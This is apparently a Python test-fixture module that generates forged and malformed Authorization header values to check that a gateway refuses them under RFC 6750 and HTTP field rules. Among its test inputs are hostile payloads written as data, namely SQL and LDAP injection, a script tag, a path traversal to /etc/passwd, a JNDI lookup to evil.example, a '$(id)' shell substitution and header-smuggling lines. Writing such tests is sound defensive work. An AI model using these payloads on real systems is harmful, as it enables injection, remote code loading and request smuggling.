"""Authorization fields that carry no token of ours, or not as RFC 6750 says; and heads that are none."""

import base64
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from testkit.hostile.forger import SUBJECT, TOKEN, Forger, Make, part, using

BASE62 = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"


@dataclass(frozen=True)
class Field:
    """The bytes of an Authorization field, and how they are refused."""

    value: Callable[[Forger], bytes]
    status: int = 401


def credential(prefix: str, body: str) -> str:
    """Return an opaque credential with the right checksum."""
    return f"{prefix}{body}{_base62(zlib.crc32(body.encode()), 6)}"


def _base62(number: int, length: int) -> str:
    digits = ""
    for _ in range(length):
        number, digit = divmod(number, 62)
        digits = BASE62[digit] + digits
    return digits


BODY = "4fK9sQ2mZ7xW1vB8nC3pL6tR5yJ0hGdA"
GOOD = credential("tlm_pat_", BODY)
LOOK_ALIKES: dict[str, str] = {
    "with a wrong checksum": GOOD[:-1] + ("0" if GOOD[-1] != "0" else "1"),
    "with a checksum of zeros": f"tlm_pat_{BODY}000000",
    "with the checksum of another": f"tlm_pat_{BODY[::-1]}{GOOD[-6:]}",
    "with a checksum that includes its prefix": f"tlm_pat_{BODY}{_base62(zlib.crc32(b'tlm_pat_' + BODY.encode()), 6)}",
    "with its checksum first": f"tlm_pat_{GOOD[-6:]}{BODY}",
    "without its checksum": f"tlm_pat_{BODY}",
    "cut": GOOD[:-1],
    "longer": f"{GOOD}0",
    "twice": GOOD + GOOD,
    "of a shorter body": credential("tlm_pat_", BODY[:-1]),
    "of a longer body": credential("tlm_pat_", f"{BODY}0"),
    "of an empty body": credential("tlm_pat_", ""),
    "nothing but its prefix": "tlm_pat_",
    "with a hyphen": credential("tlm_pat_", f"{BODY[:-1]}-"),
    "with an underscore": credential("tlm_pat_", f"{BODY[:-1]}_"),
    "with a slash": credential("tlm_pat_", f"{BODY[:-1]}/"),
    "with a space": credential("tlm_pat_", f"{BODY[:9]} {BODY[10:]}"),
    "with a dot": credential("tlm_pat_", f"{BODY[:9]}.{BODY[10:]}"),
    "with two dots": credential("tlm_pat_", f"{BODY[:9]}..{BODY[11:]}"),
    "with a percent sign": credential("tlm_pat_", f"{BODY[:9]}%{BODY[10:]}"),
    "with Arabic digits": credential("tlm_pat_", "\u0661" * 32),
    "with full-width letters": credential("tlm_pat_", "\uff21" * 32),
    "with a superscript digit": credential("tlm_pat_", f"{BODY[:-1]}\xb2"),
    "with a letter with an accent": credential("tlm_pat_", f"{BODY[:-1]}\xe9"),
    "in upper case": GOOD.upper(),
    "in lower case": GOOD.lower(),
    "in the other case": GOOD.swapcase(),
    "with an upper-case prefix": GOOD.replace("tlm_pat_", "TLM_PAT_"),
    "with a capitalised prefix": GOOD.replace("tlm_pat_", "Tlm_pat_"),
    "with hyphens in its prefix": GOOD.replace("tlm_pat_", "tlm-pat-"),
    "with a prefix cut": GOOD.replace("tlm_pat_", "tlm_pat"),
    "with another prefix": GOOD.replace("tlm_pat_", "tlm_bot_"),
    "without its prefix": GOOD.removeprefix("tlm_pat_"),
    "with its prefix twice": f"tlm_pat_{GOOD}",
    "in quotes": f'"{GOOD}"',
    "with padding": f"{GOOD}==",
    "with SQL": "tlm_pat_' OR '1'='1' --",
    "with a wildcard": "tlm_pat_" + "%" * 38,
}
OPAQUE: dict[str, str] = {
    "R4 a refresh token": credential("tlm_rt_", BODY + "0123456789x"),
    "R4 a refresh token with a wrong checksum": f"tlm_rt_{BODY}0123456789x000000",
    "R4 a refresh token in upper case": credential("tlm_rt_", BODY + "0123456789x").upper(),
    "R4 a refresh token with the prefix of an API token": credential("tlm_pat_", BODY + "0123456789x"),
    "R4 an API token with the prefix of a refresh token": credential("tlm_rt_", BODY),
    "R53 a ticket of a WebSocket": base64.urlsafe_b64encode(bytes(range(32))).rstrip(b"=").decode(),
    "a UUID": SUBJECT,
    "undefined": "undefined",
    "true": "true",
    "a number": "0",
    "a negative number": "-1",
    "NaN": "NaN",
    "an object of a careless client": "[object Object]",
    "a template that was not filled in": "${ACCESS_TOKEN}",
    "another template": "{{access_token}}",
    "a placeholder": "<token>",
    "None": "None",
    "JSON": "{}",
    "a user name": "admin",
    "SQL": "' OR 1=1 --",
    "LDAP": "*)(|(uid=*",
    "a script": "<script>alert(1)</script>",
    "a path": "../../../../etc/passwd",
    "a URL": "https://evil.example/token",
    "JNDI": "${jndi:ldap://evil.example/a}",
    "a format string": "%s%n%x",
    "a shell": "$(id)",
    "a macaroon": "MDAxY2xvY2F0aW9uIGh0dHA6Ly9teWJhbmsvCjAwMjZpZGVudGlmaWVyIHdl",
    "a PASETO": "v4.public.eyJzdWIiOiIxIn1v0tB9ZBl1dGg",
    "a Fernet token": "gAAAAABdZ0lGfnQ",
    "an AWS key": "AKIAIOSFODNN7EXAMPLE",
    "SAML": base64.b64encode(b"<saml:Assertion/>").decode(),
    "a Kerberos ticket": "YIIJvwYGKwYBBQUCoIIJszCCCa",
    "dots in a row": "." * 100,
    "one letter": "x",
    "three letters with dots": "x.y.z",
    "three empty objects": "e30.e30.e30",
    "4095 letters": "A" * 4095,
    "4096 letters": "A" * 4096,
    "4097 letters": "A" * 4097,
    "4095 dots": "." * 4095,
    "8 KiB less the scheme": "A" * (8192 - 7),
}
SCHEMES = (
    *("Basic", "Digest", "Negotiate", "NTLM", "DPoP", "MAC", "Hawk", "GNAP", "PoP", "HOBA", "Mutual", "vapid", "JWT"),
    *("SCRAM-SHA-256", "PrivateToken", "Token", "OAuth", "OAuth2", "ApiKey", "X-Bearer", "Bearer2", "Bear", "Beare"),
    *(
        "Bearers",
        "BearerToken",
        "bearer_token",
        "AWS4-HMAC-SHA256",
        "Concealed",
        "GoogleLogin",
        "SharedKey",
        "B\xebarer",
    ),
    *("\uff22earer", "\u0412earer", "'Bearer'", '"Bearer"', "Bearer=", "Bearer,", "Bearer;", "-Bearer"),
)
LAYOUTS = (
    *("{t}", "{t} Bearer", "Bearer:{t}", "Bearer={t}", "Bearer,{t}", "Bearer;{t}", "Bearer/{t}", "Bearer-{t}"),
    *("Bearer{t}", "Bearer%20{t}", "Bearer+{t}", "Bearer\t{t}", "Bearer \t{t}", "\tBearer\t{t}", "Bearer\xa0{t}"),
    *("Bearer \xa0{t}", "Bearer \u3000{t}", "Bearer\u2003{t}", 'Bearer "{t}"', "Bearer '{t}'", "Bearer <{t}>"),
    *("Bearer token={t}", 'Bearer token="{t}"', "Bearer access_token={t}", "Bearer: {t}", "Bearer Bearer {t}"),
    *("bearer bearer {t}", "Bearer {t} {t}", "Bearer {t},{t}", "Bearer {t}, {t}", "Bearer {t}, Bearer {t}"),
    *("Bearer {t},Bearer {t}", "Bearer {t};Bearer {t}", "Bearer {t} Bearer {t}", "Bearer {t} Bearer", "Bearer {t},"),
    *("Bearer ,{t}", ", Bearer {t}", "Bearer {t}, Basic YTpi", "Basic YTpi, Bearer {t}", "Bearer x, Bearer {t}"),
    *("Bearer {t}\tx", "Bearer {t} x", "Bearer x {t}", "Bearer {t};", "Bearer {t} ; q=1", "Bearer {t}#", "Bearer {t}?"),
    *("Bearer realm=x, {t}", 'Bearer realm="x", token="{t}"', "'Bearer {t}'", '"Bearer {t}"', "(Bearer {t})"),
    *("Authorization: Bearer {t}", "Bearer \\{t}", "Bearer //{t}", "Bearer {t}\\", "Bearer\\ {t}", "Bearer_{t}"),
)
BARE = (
    *("", "Bearer", "bearer", "BEARER", "Bearer ,", "Bearer =", 'Bearer ""', "Bearer ;", "Bearer \t", "Bearer -"),
    *("Basic", "Basic YTpi", "Basic Og==", "Digest username=x", "Negotiate YII", ",", ";", "=", '"', "*", "?", "\\"),
    *(
        "Bearer null",
        "null",
        "undefined",
        "none",
        "Bearer \xff",
        "\xff",
        "\xa0",
        "\xef\xbb\xbf",
        "\u200b",
        "\U0001f511",
    ),
)
CONTROLS = (*range(9), *range(10, 32), 127)
"""All but the tab, which may stand in a field (RFC 9110, section 5.5)."""


def bearer(token: str) -> bytes:
    """Return the field of a token, as UTF-8 where it is not ASCII."""
    return b"Bearer " + token.encode()


def _fields() -> dict[str, Field]:
    fields: dict[str, Field] = {}
    for scheme in SCHEMES:
        fields[f"RFC 6750 2.1 scheme {scheme!a}"] = Field(using(lambda f, s: f"{s} {f.token()}".encode(), scheme))
    for layout in LAYOUTS:
        fields[f"RFC 6750 2.1 laid out as {layout!a}"] = Field(
            using(lambda f, w: w.replace("{t}", f.token()).encode(), layout)
        )
    for value in BARE:
        fields[f"RFC 6750 3.1 nothing but {value!a}"] = Field(using(lambda _, v: v.encode(), value))
    fields["RFC 7617 2 the token as a password"] = Field(
        lambda f: b"Basic " + base64.b64encode(f":{f.token()}".encode())
    )
    fields["RFC 7617 2 the token as a user name"] = Field(
        lambda f: b"Basic " + base64.b64encode(f"{f.token()}:".encode())
    )
    return fields


def _heads() -> dict[str, Field]:
    fields = {
        f"RFC 9110 5.5 byte {number:#04x} {where}": Field(
            using(lambda f, n, w: _placed(f, bytes([n]), w), number, where), 400
        )
        for number in CONTROLS
        for where in ("before the token", "within the token")
    }
    fields["RFC 9112 5.2 folded"] = Field(lambda f: b"Bearer\r\n " + f.token().encode(), 400)
    fields["RFC 9112 5.2 folded with a tab"] = Field(lambda f: b"Bearer\r\n\t" + f.token().encode(), 400)
    fields["RFC 9112 2.2 a line without CR"] = Field(lambda f: bearer(f.token()) + b"\nX-Forwarded-For: 127.0.0.1", 400)
    fields["RFC 9110 5.3 the field twice"] = Field(
        lambda f: bearer(f.token()) + b"\r\nAuthorization: " + bearer(f.token())
    )
    fields["RFC 9110 5.3 another field first"] = Field(lambda f: b"Bearer x\r\nAuthorization: " + bearer(f.token()))
    fields["RFC 9110 5.3 another field last"] = Field(lambda f: bearer(f.token()) + b"\r\nauthorization: Bearer x")
    fields["RFC 9110 5.3 an empty field first"] = Field(lambda f: b"\r\nAuthorization: " + bearer(f.token()))
    for size in (8193, 9000, 16_384, 30_000, 40_000):
        fields[f"R16 a field of {size} bytes"] = Field(using(lambda _, n: b"Bearer " + b"A" * (n - 7), size), 431)
        fields[f"R16 a good token with spaces up to {size} bytes"] = Field(
            using(lambda f, n: b"Bearer" + f.token().encode().rjust(n - 6), size), 431
        )
    return fields


def _placed(f: Forger, byte: bytes, where: str) -> bytes:
    token = f.token().encode()
    return b"Bearer " + (byte + token if where == "before the token" else token[:9] + byte + token[9:])


def sized(f: Forger, size: int) -> str:
    """Return a token of so many characters that is good in everything but its size."""
    header = next(spelt for n in (0, 1) if _fits(size, spelt := part(_padded(f.header(), n))))
    claims = _padded(f.claims(), 0)
    room = (size - len(header) - 88) * 3 // 4
    return f.respelt(header, part(claims + b" " * (room - len(claims))))


def _fits(size: int, header: str) -> bool:
    return (size - len(header) - 88) % 4 != 1


def _padded(value: dict[str, Any], spaces: int) -> bytes:
    return json.dumps(value).encode() + b" " * spaces


TOO_LONG: dict[str, Make] = {
    f"R1 good but for its {size} characters": using(sized, size) for size in (4097, 4098, 5000, 8192 - 7)
}
TOKENS: dict[str, Make] = {
    **{f"R14 an API token {name}": using(lambda _, t: t, text) for name, text in LOOK_ALIKES.items()},
    **{f"RFC 6750 2.1 {name}": using(lambda _, t: t, text) for name, text in OPAQUE.items()},
    **TOO_LONG,
    "R14 an API token before a good token": lambda f: f"tlm_pat_{f.token()}",
    "R21 the gateway's own identity": lambda f: f.identity,
    "R1 claims without a header": lambda f: part(f.claims()),
    "R1 a session's id": lambda _: TOKEN,
}
FIELDS: dict[str, Field] = {**_fields(), **_heads()}
